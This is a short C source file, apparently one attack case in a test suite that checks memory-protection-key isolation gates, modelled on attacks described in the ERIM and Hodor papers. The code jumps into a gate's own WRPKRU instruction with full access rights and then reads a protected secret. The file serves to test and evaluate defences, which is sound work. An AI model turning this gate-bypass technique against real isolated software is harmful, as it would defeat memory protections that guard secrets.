/* Tries: to jump to each of the gate's own WRPKRU with all rights asked for, and to read the
 *   secret
 * From: ERIM (Vahldiek-Oberwagner et al., USENIX Security 2019); Hodor (Hedayati et al., USENIX
 *   ATC 2019)
 * Observed: The secret in what the call gave back.
 * Needs: machine-code, keys */
#include "attacks/attack.h"
#include "attacks/gate_jump.h"

#ifdef ATTACK_FOREIGN
FOREIGN(run)
{
    uint64_t code = LOCAL(find)(at);
    if (code)
        LOCAL(jump)(code, 0, at->canary_page + 2048);
    take(at, at->secret_global);
    return 0;
}
#endif

#ifdef ATTACK_HOST
HOST(run)
{
    return LOCAL(jump_each_time)(host, 12);
}
#endif
